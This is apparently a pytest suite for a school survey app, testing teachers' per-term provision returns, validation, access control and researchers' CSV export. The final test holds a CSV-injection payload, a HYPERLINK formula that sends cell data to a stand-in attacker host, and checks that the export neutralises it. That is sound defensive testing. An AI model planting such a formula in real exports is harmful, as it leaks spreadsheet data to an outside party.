"""Provision and participation returns: teachers fill them in per school and term, researchers
read them and download them as CSV."""

from __future__ import annotations

import csv
import io
import re

import pytest

from surveyapp.catalog import get_catalog
from surveyapp.extensions import db
from surveyapp.models import AuditEvent, ProvisionReturn, School
from tests.builders import add_school, add_user, csrf_token, log_in, shipped_study

TERM = "2026-autumn"


@pytest.fixture
def schools(app):
    study = shipped_study()
    hill = add_school(study, "S01", "in_harmony", name="Hill Primary")
    vale = add_school(study, "S02", "comparison", name="Vale Primary")
    db.session.commit()
    return hill, vale


@pytest.fixture
def teacher(client, schools):
    user = add_user("teacher", "teacher", [schools[0]])
    log_in(client, user)
    return user


def url(school: School, term: str = TERM) -> str:
    return f"/teacher/provision/{school.id}/{term}"


def token_for(client, address: str) -> str:
    return csrf_token(client, address, status=200)


def stored(school: School, term: str = TERM) -> ProvisionReturn | None:
    db.session.expire_all()
    return db.session.execute(
        db.select(ProvisionReturn).filter_by(school_id=school.id, term=term)
    ).scalar_one_or_none()


def filled(**extra) -> dict:
    form = {
        "hours_y3": "1.5",
        "hours_y4": "2",
        "pupils_on_roll": "320",
        "pupils_taking_part": "85",
        "instruments_available": ["3", "1", "13"],
        "performances": "2",
        "comments": "  A great term.  ",
    }
    form.update(extra)
    return form


def test_index_lists_the_teachers_schools_and_the_study_terms(client, teacher, schools):
    html = client.get("/teacher/provision").get_data(as_text=True)
    assert "Hill Primary" in html and "Vale Primary" not in html
    for label in ("Autumn 2026", "Spring 2027", "Summer 2027"):
        assert label in html
    assert f'href="{url(schools[0])}"' in html


def test_the_form_is_built_from_the_school_questionnaire(client, teacher, schools):
    html = client.get(url(schools[0])).get_data(as_text=True)
    assert 'name="hours_reception"' in html and 'type="number"' in html
    assert 'min="0"' in html and 'max="40"' in html
    assert html.count('name="instruments_available" type="checkbox"') == 15
    assert "<textarea" in html and 'name="comments"' in html
    assert "Hours of In Harmony provision per week" in html  # page titles become sections
    assert "hours_intro" not in html  # info items show text, not a field


def test_save_a_draft_then_submit(client, teacher, schools):
    hill = schools[0]
    token = token_for(client, url(hill))
    saved = client.post(
        url(hill), data={**filled(), "csrf_token": token, "action": "save"}, follow_redirects=True
    )
    assert saved.status_code == 200
    assert "Saved as a draft" in saved.get_data(as_text=True)
    draft = stored(hill)
    assert draft.submitted_at is None
    assert draft.answers == {
        "hours_y3": 1.5,
        "hours_y4": 2.0,
        "pupils_on_roll": 320,
        "pupils_taking_part": 85,
        "instruments_available": [1, 3, 13],
        "performances": 2,
        "comments": "A great term.",
    }
    assert draft.questionnaire_id == "ih_provision"
    assert draft.questionnaire_version == get_catalog().questionnaire("ih_provision").version

    # The draft comes back into the form.
    html = client.get(url(hill)).get_data(as_text=True)
    assert 'value="320"' in html and "A great term." in html
    assert re.search(r'checked[^>]*value="13"|value="13"[^>]*checked', html)

    # Saving again replaces the answers (a cleared field is no longer stored).
    client.post(
        url(hill),
        data={**filled(comments=""), "csrf_token": token, "action": "save"},
    )
    assert "comments" not in stored(hill).answers
    assert db.session.query(ProvisionReturn).count() == 1

    submitted = client.post(
        url(hill), data={**filled(), "csrf_token": token, "action": "submit"}, follow_redirects=True
    )
    assert "is submitted" in submitted.get_data(as_text=True)
    final = stored(hill)
    assert final.submitted_at is not None and final.submitted_by_id == teacher.id
    event = db.session.execute(db.select(AuditEvent)).scalar_one()
    assert event.action == "provision.submit" and event.target == f"school:S01/{TERM}"


def test_a_submitted_return_is_locked(client, teacher, schools):
    hill = schools[0]
    token = token_for(client, url(hill))
    client.post(url(hill), data={**filled(), "csrf_token": token, "action": "submit"})
    before = stored(hill).answers
    page = client.get(url(hill)).get_data(as_text=True)
    assert "can no longer be changed" in page and "<textarea" not in page
    again = client.post(
        url(hill),
        data={**filled(pupils_taking_part="1"), "csrf_token": token, "action": "save"},
        follow_redirects=True,
    )
    assert "can no longer be changed" in again.get_data(as_text=True)
    assert stored(hill).answers == before


def test_out_of_range_and_non_numbers_are_refused_without_losing_input(client, teacher, schools):
    hill = schools[0]
    token = token_for(client, url(hill))
    response = client.post(
        url(hill),
        data={
            **filled(hours_y5="41", pupils_on_roll="lots"),
            "csrf_token": token,
            "action": "save",
        },
    )
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "nothing has been saved yet" in html
    assert "Enter a number from 0 to 40." in html
    assert 'value="lots"' in html and 'value="41"' in html and "A great term." in html
    assert 'aria-invalid="true"' in html
    assert stored(hill) is None


def test_required_questions_are_enforced_on_submit_only(client, teacher, schools):
    hill = schools[0]
    token = token_for(client, url(hill))
    partial = {"hours_y3": "1", "csrf_token": token}
    saved = client.post(url(hill), data={**partial, "action": "save"})
    assert saved.status_code == 302 and stored(hill).answers == {"hours_y3": 1.0}
    refused = client.post(url(hill), data={**partial, "action": "submit"})
    assert refused.status_code == 200
    assert "Please answer this question." in refused.get_data(as_text=True)
    assert stored(hill).submitted_at is None


def test_one_return_per_school_and_term(client, teacher, schools):
    hill = schools[0]
    for term in ("2026-autumn", "2027-spring"):
        token = token_for(client, url(hill, term))
        client.post(url(hill, term), data={**filled(), "csrf_token": token, "action": "save"})
    assert {r.term for r in db.session.query(ProvisionReturn)} == {"2026-autumn", "2027-spring"}


def test_teachers_only_reach_their_own_schools_and_real_terms(client, teacher, schools):
    hill, vale = schools
    assert client.get(url(vale)).status_code == 404
    assert client.get(url(hill, "2030-autumn")).status_code == 404
    assert client.get(url(hill, "autumn")).status_code == 404
    assert client.get("/teacher/provision/999999/2026-autumn").status_code == 404
    token = token_for(client, url(hill))
    response = client.post(url(vale), data={**filled(), "csrf_token": token, "action": "save"})
    assert response.status_code == 404 and stored(vale) is None


def test_researchers_read_returns_and_download_csv(client, teacher, schools):
    hill, vale = schools
    token = token_for(client, url(hill))
    client.post(url(hill), data={**filled(), "csrf_token": token, "action": "submit"})
    token = token_for(client, url(hill, "2027-spring"))
    client.post(
        url(hill, "2027-spring"), data={"hours_y3": "3", "csrf_token": token, "action": "save"}
    )
    log_in(client, add_user("researcher", "researcher"))
    assert client.get(url(hill)).status_code == 403  # researchers read, schools write

    table = client.get("/research/provision").get_data(as_text=True)
    assert "Hill Primary" in table and "Vale Primary" in table
    assert "Submitted" in table and "Draft" in table and "Not started" in table
    detail_id = stored(hill).id
    detail = client.get(f"/research/provision/{detail_id}").get_data(as_text=True)
    assert "Cello" in detail and "Violin" in detail and "85" in detail
    assert "A great term." in detail

    response = client.get("/research/provision.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["school"], r["term"], r["status"]) for r in rows] == [
        ("S01", "2026-autumn", "submitted"),
        ("S01", "2027-spring", "draft"),
    ]
    first = rows[0]
    assert first["arm"] == "in_harmony"
    assert first["instruments_available"] == "1;3;13"
    assert first["pupils_taking_part"] == "85" and first["hours_y3"] == "1.5"
    assert first["hours_reception"] == ""
    # Free text that could identify someone follows the study's policy (dropped here).
    assert "comments" not in first
    assert "Hill Primary" not in response.get_data(as_text=True)
    event = db.session.execute(
        db.select(AuditEvent).filter_by(action="export.provision")
    ).scalar_one()
    assert event.detail == {"rows": 2, "include_free_text": False}


def test_research_provision_detail_of_unknown_return_is_404(client, schools):
    log_in(client, add_user("researcher", "researcher"))
    assert client.get("/research/provision/12345").status_code == 404


def test_the_staff_menu_links_teachers_to_their_returns(client, teacher):
    html = client.get("/teacher/provision").get_data(as_text=True)
    header = html.split("</header>")[0]
    assert 'href="/teacher/provision"' in header


def test_a_study_without_provision_returns(client, teacher, schools, monkeypatch):
    design = get_catalog().study.model_copy(update={"provision_questionnaire": None})
    monkeypatch.setattr(get_catalog(), "study", design)
    page = client.get("/teacher/provision")
    assert page.status_code == 200
    assert "asks schools for no provision returns" in page.get_data(as_text=True)
    assert client.get(url(schools[0])).status_code == 404
    log_in(client, add_user("researcher", "researcher"))
    assert client.get("/research/provision").status_code == 404
    assert 'href="/research/provision"' not in client.get("/research/").get_data(as_text=True)


def test_a_comment_that_looks_like_a_formula_is_text_in_the_csv(client, teacher, schools):
    """CSV injection: '=HYPERLINK(...)' typed by a teacher must not run in a spreadsheet."""
    from surveyapp import provision

    hill = schools[0]
    token = token_for(client, url(hill))
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.post(url(hill), data={**filled(comments=attack), "csrf_token": token, "action": "save"})
    questionnaire = get_catalog().questionnaire(get_catalog().study.provision_questionnaire)
    study = db.session.execute(db.select(School)).scalars().first().study
    out = io.StringIO()
    provision.write_returns_csv(
        study, questionnaire, out, provision.CsvOptions(include_free_text=True)
    )
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["comments"] == "'" + attack
    assert row["pupils_taking_part"] == "85"  # numbers are never touched
